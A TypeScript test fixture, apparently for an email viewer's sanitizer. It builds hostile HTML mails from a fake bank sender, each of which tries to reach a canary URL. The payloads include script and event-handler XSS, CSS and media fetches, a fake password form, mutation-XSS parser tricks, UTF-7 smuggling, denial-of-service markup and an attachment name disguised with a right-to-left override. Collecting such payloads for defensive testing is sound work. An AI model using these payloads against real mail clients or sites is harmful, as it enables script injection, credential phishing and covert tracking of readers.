const mail = (body: string, type = "text/html; charset=utf-8"): Buffer =>
  Buffer.from(
    `From: Bank <bank@evil.example>\r\nTo: colleague@acme.example\r\nSubject: Pay now\r\nMIME-Version: 1.0\r\nContent-Type: ${type}\r\n\r\n${body.replace(/\r?\n/g, "\r\n")}\r\n`,
  );
const told = "<p>Read me</p>";

/**
 * Mails that try to do something where they are shown: each would ask `canary` for something, or run a script that does.
 * All of them say "Read me".
 */
export const hostileMails = (canary: string): [string, Buffer][] => [
  [
    "a script",
    mail(`${told}<script>fetch("${canary}/script")</script><script src="${canary}/src"></script>`),
  ],
  [
    "scripts in attributes",
    mail(
      `${told}<img src=x onerror="fetch('${canary}/onerror')"><body onload="fetch('${canary}/onload')"><p onmouseover=fetch('${canary}/over')>hover</p>`,
    ),
  ],
  [
    "scripts in svg and math",
    mail(
      `${told}<svg onload="fetch('${canary}/svg')"><script>fetch("${canary}/svgscript")</script><image href="${canary}/svgimage"/><use href="${canary}/use#x"/><foreignObject><img src="${canary}/foreign"></foreignObject><style>@import "${canary}/svgstyle";</style></svg><math><mtext></mtext><mglyph><style><img src=x onerror="fetch('${canary}/math')"></style></mglyph></math>`,
    ),
  ],
  [
    "styles that fetch",
    mail(
      `<head><link rel=stylesheet href="${canary}/link"><link rel=preload as=image href="${canary}/preload"><style>@import url(${canary}/import); body{background:url(${canary}/body)} @font-face{font-family:x;src:url(${canary}/font)}</style></head>${told}<p style="background:url('${canary}/inline');font-weight:bold;position:fixed;top:0">styled</p><table background="${canary}/table"><tr><td style='background-image: u\\rl(${canary}/escaped)'>cell</td></tr></table>`,
    ),
  ],
  [
    "pages that lead away",
    mail(
      `<meta http-equiv=refresh content="0;url=${canary}/refresh"><base href="${canary}/base/">${told}<a href="login" ping="${canary}/ping">relative</a><img src="relative.png">`,
    ),
  ],
  [
    "a form",
    mail(
      `${told}<form action="${canary}/form" method=post><input name=password type=password autofocus placeholder="Your password"><input type=image src="${canary}/imagebutton"><button formaction="${canary}/formaction">Sign in</button><input type=hidden name=token value=secretvalue></form>`,
    ),
  ],
  [
    "embedded pages",
    mail(
      `${told}<iframe src="${canary}/iframe"></iframe><iframe srcdoc="<script>fetch('${canary}/srcdoc')</script>"></iframe><object data="${canary}/object"><embed src="${canary}/embed"></object><applet code="${canary}/applet"></applet><frameset><frame src="${canary}/frame"></frameset>`,
    ),
  ],
  [
    "media",
    mail(
      `<img src="${canary}/pixel" width=1 height=1><img srcset="${canary}/srcset 2x"><picture><source srcset="${canary}/source"></picture><video src="${canary}/video" poster="${canary}/poster" autoplay></video><audio src="${canary}/audio" autoplay></audio><input type=image src="${canary}/input">${told}`,
    ),
  ],
  [
    "links with other schemes",
    mail(
      `${told}<a href="javascript:fetch('${canary}/javascript')">run</a><a href=" java\nscript:fetch('${canary}/split')">split</a><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a><a href="vbscript:x">vb</a><a href="//${canary.replace(/^https?:\/\//, "")}/schemeless">schemeless</a>`,
    ),
  ],
  [
    "markup that a second parser reads another way",
    mail(
      `${told}<noscript><p title="</noscript><img src=x onerror=fetch('${canary}/noscript')>"></noscript><textarea></textarea><img src=x onerror=fetch('${canary}/textarea')></textarea><!--><img src=x onerror=fetch('${canary}/comment')>--><![CDATA[<img src=x onerror=fetch('${canary}/cdata')>]]><xmp><img src=x onerror=fetch('${canary}/xmp')></xmp><template><img src="${canary}/template"></template><title><img src=x onerror=fetch('${canary}/title')></title><p title='"><img src=x onerror=fetch("${canary}/quote")>'>&lt;img src=x onerror=fetch("${canary}/entity")&gt;</p>`,
    ),
  ],
  [
    "a mail that ends in the middle of a tag",
    mail(`${told}<img src="${canary}/cut" onerror="fetch('${canary}/cutscript')`),
  ],
  ["a script that is never closed", mail(`${told}<script>fetch("${canary}/open")`)],
  ["a huge table", mail(told + "<table>" + "<tr><td>cell</td></tr>".repeat(40_000) + "</table>")],
  ["5,000 nested tags", mail(told + "<div><b>".repeat(2_500) + "deep" + "</b></div>".repeat(2_500))],
  ["5,000 tags that are never closed", mail(told + "<table><tr><td><a href=x><font>".repeat(1_000) + "deep")],
  ["an unknown charset", mail(`${told}<p>Zahlen \x80</p>`, "text/html; charset=x-none")],
  [
    "a charset that is another",
    mail(`${told}+ADw-script+AD4-fetch('${canary}/utf7')+ADw-/script+AD4-`, "text/html; charset=utf-7"),
  ],
  ["very long words", mail(`${told}<p>${"a".repeat(500_000)}</p>`)],
  [
    "names of files that turn around",
    mail(
      `--b\nContent-Type: text/html\n\n${told}\n--b\nContent-Type: application/pdf; name="=?utf-8?B?${Buffer.from("invoice\u202efdp.exe").toString("base64")}?="\nContent-Disposition: attachment\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAA=\n--b--`,
      "multipart/mixed; boundary=b",
    ),
  ],
];
